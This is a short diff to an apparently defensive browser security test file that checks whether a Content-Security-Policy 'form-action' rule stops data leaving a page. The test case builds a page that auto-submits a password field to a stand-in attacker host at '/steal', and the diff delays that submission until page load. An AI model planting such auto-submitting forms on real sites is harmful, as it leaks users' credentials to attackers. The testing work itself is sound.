@@ -51,7 +51,7 @@ export const CSP_EXFILTRATION: readonly Case[] = [
     policy: { csp: { 'form-action': [SELF] } },
     site: (at) => ({
       '/': `<form action="${at.attacker}/steal" method="post"><input name="password" value="secret"></form>
-        <script>document.forms[0].submit()</script>`,
+        <script>addEventListener('load', () => setTimeout(() => document.forms[0].submit()))</script>`,
     }),
     attacked: ({ received }) => received.attacker.some(({ path, body }) => path === '/steal' && body.includes('secret')),
     works: () => true,
